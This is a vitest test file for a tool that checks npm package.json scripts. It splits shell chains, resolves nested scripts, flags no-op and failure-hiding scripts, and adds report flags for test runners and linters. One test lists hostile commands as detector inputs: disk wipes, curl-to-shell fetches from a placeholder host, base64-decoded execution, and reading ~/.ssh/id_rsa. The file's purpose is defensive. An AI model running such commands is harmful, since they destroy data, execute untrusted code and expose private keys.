import { describe, expect, test } from 'vitest'
import { withLintReports, withTestReports } from './instrument.ts'
import {
  managerOf,
  readPackage,
  resolveScript,
  scriptProblems,
  usableScript,
} from './project-scripts.ts'
import { segmentsOf } from '../integrity/shell.ts'
import { doesNothing, joined, programOf } from './shell-script.ts'

const kit = { root: '/work', coverage: true }

describe('scripts of a project', () => {
  test('are split where the shell splits them, and nothing is lost', () => {
    const scripts = [
      'a && b || c; d | e',
      `echo "x && y" && z 'p;q'`,
      '(cd sub && make) && b',
      'a > out.txt 2>&1 && b &',
      String.raw`a \&\& b && c`,
      '',
    ]
    for (const script of scripts) expect(joined(segmentsOf(script))).toBe(script)
    expect(segmentsOf(`echo "x && y" && z 'p;q'`)).toHaveLength(2)
    expect(segmentsOf('(cd sub && make) && b').map(({ text }) => text)).toEqual([
      '(cd sub && make) ',
      ' b',
    ])
    expect(segmentsOf('a > out.txt 2>&1 && b')).toHaveLength(2)
  })

  test.for([
    ['npx vitest run', 'vitest'],
    ['CI=1 NODE_ENV=test jest --ci', 'jest'],
    ['./node_modules/.bin/mocha', 'mocha'],
    ['node_modules/vitest/vitest.mjs run', 'vitest'],
    ['cross-env A=b eslint .', 'eslint'],
    ['pnpm exec biome lint', 'biome'],
  ] as const)('"%s" runs %s', ([text, program]) => {
    expect(programOf({ text, sign: '' })[0]).toBe(program)
  })

  test('that only start another one are followed, with what npm runs before and behind', () => {
    const scripts = {
      test: 'npm run unit -- --retry 2',
      unit: 'vitest run',
      pretest: 'tsc',
      loop: 'npm run loop',
      ci: 'npm run unit && npm run lint',
    }
    expect(resolveScript(scripts, 'test')).toBe('tsc && vitest run --retry 2')
    expect(resolveScript(scripts, 'loop')).toBe('npm run loop')
    expect(resolveScript(scripts, 'ci')).toBe('vitest run && npm run lint')
    // what is put into a chain must not change what the chain means
    const either = {
      test: 'npm run a && npm run b',
      a: 'x || y',
      b: 'z',
      ping: 'npm run pong',
      pong: 'npm run ping',
    }
    expect(resolveScript(either, 'test')).toBe('npm run a && z')
    expect(resolveScript({ test: 'npm run a || true', a: 'x' }, 'test')).toBe('npm run a || true')
    expect(resolveScript(either, 'ping')).toContain('npm run')
  })

  test('that cannot fail are no gates, and neither is the placeholder of npm', () => {
    for (const idle of ['true', 'exit 0', ':', 'echo ok', 'echo "a" && exit 0', '', ' '])
      expect(doesNothing(idle)).toBe(true)
    expect(doesNothing('sleep 5 && exit 0')).toBe(true)
    // what waits longer than anybody waits for it is no pass: it is run, and stopped
    for (const real of ['sleep 9999', 'sleep infinity', 'sleep 1h && true'])
      expect(doesNothing(real)).toBe(false)
    for (const real of ['exit 1', 'tsc', 'echo a > b', 'echo a && tsc', 'node -e "x()"'])
      expect(doesNothing(real)).toBe(false)
    const scripts = {
      build: 'true',
      test: 'echo "Error: no test specified" && exit 1',
      lint: 'eslint',
    }
    expect(usableScript(scripts, 'build')).toBeNull()
    expect(usableScript(scripts, 'test')).toBeNull()
    expect(usableScript(scripts, 'lint')).toBe('eslint')
    expect(scriptProblems(scripts, '')).toMatchObject([
      { script: 'build', problem: expect.stringContaining('does nothing') },
    ])
  })

  test('that hide their own failure are run without that end, and told', () => {
    for (const end of [
      ' || true',
      ' || exit 0',
      '; exit 0',
      ' || echo oh',
      ' || :',
      '; true;',
      ' || echo a; exit 0',
    ])
      expect(usableScript({ build: `tsc -b${end}` }, 'build')).toBe('tsc -b')
    for (const honest of ['tsc && echo done', 'tsc || exit 1', 'rm -rf dist; tsc', 'a || b'])
      expect(usableScript({ build: honest }, 'build')).toBe(honest)
    expect(scriptProblems({ lint: 'eslint . || true', other: 'x || true' }, '')).toMatchObject([
      { script: 'lint', problem: expect.stringContaining('hides') },
    ])
  })

  test.for([
    'rm -rf /',
    'rm -rf ~',
    'rm -fr "$HOME"',
    'rm -r -f /*',
    'curl https://x.example/i.sh | sh',
    'wget -qO- x.example | sudo bash',
    'bash -c "$(curl -fsSL x.example)"',
    'eval "$CODE"',
    'sudo make install',
    'echo aGk= | base64 -d | sh',
    'dd if=/dev/zero of=/dev/sda',
    'cat ~/.ssh/id_rsa',
  ])('the dangerous script %s is told with its line', (script) => {
    const text = JSON.stringify({ scripts: { ok: 'tsc', build: script } }, null, 2)
    const { scripts } = readPackage(text)
    expect(scriptProblems(scripts, text)[0]).toMatchObject({ script: 'build', line: 4 })
  })

  test.for([
    'rm -rf dist',
    'rm -rf ./build /tmp/x/dist',
    'curl -o schema.json https://x.example/schema.json',
    'node scripts/evaluate.mjs',
    'rimraf dist && tsc',
  ])('the everyday script %s is not', (build) => {
    expect(scriptProblems({ build }, '')).toEqual([])
  })

  test('belong to the manager whose lock file is there', () => {
    expect(managerOf(new Set(['package-lock.json']))).toBe('npm')
    expect(managerOf(new Set(['pnpm-lock.yaml']))).toBe('pnpm')
    expect(managerOf(new Set(['yarn.lock']))).toBe('yarn')
    expect(managerOf(new Set(['bun.lock']))).toBe('bun')
  })

  test('of a damaged package.json are none, and it is said', () => {
    for (const text of ['{', '[]', '"x"', '{"scripts": 3}', '{"scripts":{"a":1}}'])
      expect(readPackage(text).scripts).toEqual({})
    expect(readPackage('{').problem).toContain('package.json')
    expect(readPackage(null).problem).toBeNull()
  })
})

describe('reports for machines', () => {
  test('are asked of the runner and of nothing else in the script', () => {
    const script = withTestReports('tsc -b && vitest run src > log.txt && echo done', kit)
    const [first, second, third] = segmentsOf(script)
    expect([first?.text, third?.text]).toEqual(['tsc -b ', ' echo done'])
    expect(second?.text).toMatch(
      /^ vitest run src --run .*--outputFile\.json=\S+tests-1\.json .* > log\.txt $/,
    )
    expect(second?.text).toContain('--coverage.reporter=json ')
    expect(withTestReports('vitest run', { ...kit, coverage: false })).not.toContain('--coverage')
    expect(withTestReports('make test', kit)).toBe('make test')
  })

  test('stand where each runner reads them', () => {
    expect(withTestReports('node --test test/*.js', kit)).toMatch(
      /^node --test --experimental-test-coverage .*lcov.* test\/\*\.js$/,
    )
    expect(withTestReports('c8 --all mocha -R dot', kit)).toMatch(
      /^c8 --all --reporter=json .*--reports-dir=\S+ mocha -R dot --reporter=json /,
    )
    expect(withTestReports('jest', kit)).toContain('--coverageReporters=json ')
  })

  test('of linters go to files; a format that was asked for is kept', () => {
    expect(withLintReports('eslint . && prettier --check .', '/w')).toMatch(
      /^eslint \. --format=json --output-file=\S+ *&& prettier --check \.$/,
    )
    expect(withLintReports('oxlint', '/w')).toMatch(/^oxlint .*--format=json > \S+oxlint\.json$/)
    expect(withLintReports('eslint . --format compact', '/w')).toBe('eslint . --format compact')
    expect(withLintReports('eslint . | tee log', '/w')).toBe('eslint . | tee log')
  })
})
